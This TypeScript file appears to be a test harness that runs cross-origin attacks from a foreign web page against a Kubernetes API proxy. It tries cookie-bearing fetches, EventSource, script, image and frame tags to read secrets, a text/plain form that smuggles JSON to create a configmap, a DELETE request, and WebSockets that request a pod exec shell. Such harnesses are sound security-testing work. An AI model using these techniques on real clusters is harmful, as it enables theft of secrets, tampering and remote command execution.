// Program of a page on another origin. Each attempt resolves with what it could read.

type Attempt = (target: string) => Promise<string>;

const api = "/clusters/c0/api/v1/namespaces/default";
const within = (promise: Promise<string>): Promise<string> =>
  Promise.race([promise, new Promise<string>((resolve) => setTimeout(() => resolve("nothing: no answer"), 3_000))]);

function read(init: RequestInit, path = `${api}/secrets`): Attempt {
  return async (target) => {
    try {
      const response = await fetch(target + path, { credentials: "include", ...init });
      const text = await response.text();
      return text === "" ? `nothing: ${response.type}` : text;
    } catch (error) {
      return `nothing: ${String(error)}`;
    }
  };
}

function socket(path: string, protocols: string[], message?: Uint8Array<ArrayBuffer>): Attempt {
  return (target) =>
    new Promise((resolve) => {
      const opened = new WebSocket(target.replace("http", "ws") + path, protocols);
      opened.onopen = () => {
        if (message === undefined) resolve("the WebSocket opened");
        else opened.send(message);
      };
      opened.onmessage = ({ data }) => resolve(`received ${String(data)}`);
      opened.onerror = () => resolve("nothing: refused");
    });
}

function element(tag: "script" | "iframe" | "img" | "link", path: string): Attempt {
  return (target) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      if (made instanceof HTMLLinkElement) Object.assign(made, { rel: "stylesheet", href: target + path });
      else made.src = target + path;
      made.onload = () => {
        // A frame reports an error page as loaded, too; its document is out of reach unless it has this origin.
        const inside = made instanceof HTMLIFrameElement ? made.contentDocument?.body.innerText : "it ran";
        resolve(inside ? inside : "nothing: an unreadable frame");
      };
      made.onerror = () => resolve("nothing: refused");
      document.body.append(made);
    });
}

const form: Attempt = (target) =>
  new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "result" });
    const made = Object.assign(document.createElement("form"), {
      method: "post",
      action: `${target}${api}/configmaps`,
      enctype: "text/plain",
      target: "result",
    });
    made.append(
      Object.assign(document.createElement("input"), { name: '{"metadata":{"name":"evil"},"x":"', value: '"}' }),
    );
    document.body.append(frame, made);
    frame.onload = () => resolve(frame.contentDocument?.body?.innerText ? "readable" : "nothing: an unreadable frame");
    made.submit();
  });

const open = new TextEncoder().encode(
  JSON.stringify({ cluster: "c0", method: "GET", path: "/api/v1/secrets", headers: {}, credit: 65_536 }),
);
const frame = new Uint8Array([1, 0, 0, 0, 1, 0, 0, 0, open.length, ...open]);

const attempts: readonly (readonly [string, Attempt])[] = [
  ["fetch with cookies", read({})],
  ["fetch without CORS", read({ mode: "no-cors" })],
  ["fetch of the list of clusters", read({}, "/clusters")],
  [
    "write as text",
    read({ mode: "no-cors", method: "POST", body: '{"metadata":{"name":"evil"}}' }, `${api}/configmaps`),
  ],
  [
    "write as JSON",
    read({ method: "POST", body: "{}", headers: { "content-type": "application/json" } }, `${api}/configmaps`),
  ],
  ["delete", read({ method: "DELETE" }, `${api}/configmaps/first`)],
  [
    "event source",
    (target) =>
      new Promise((resolve) => {
        const source = new EventSource(`${target}${api}/secrets?watch=1`, { withCredentials: true });
        source.onmessage = ({ data }) => resolve(String(data));
        source.onerror = () => resolve("nothing: refused");
      }),
  ],
  ["multiplexed connection", socket("/clusters", ["v1.mux.kubestream"], frame)],
  ["command", socket(`${api}/pods/web/exec?command=sh&stdout=true`, ["v5.channel.k8s.io"])],
  ["script", element("script", `${api}/secrets`)],
  ["style sheet", element("link", `${api}/secrets`)],
  ["image", element("img", `${api}/secrets`)],
  ["frame", element("iframe", `${api}/secrets`)],
  ["form", form],
];

Object.assign(globalThis, {
  async attack(target: string): Promise<[string, string][]> {
    const results: [string, string][] = [];
    for (const [name, attempt] of attempts) results.push([name, await within(attempt(target))]);
    return results;
  },
});
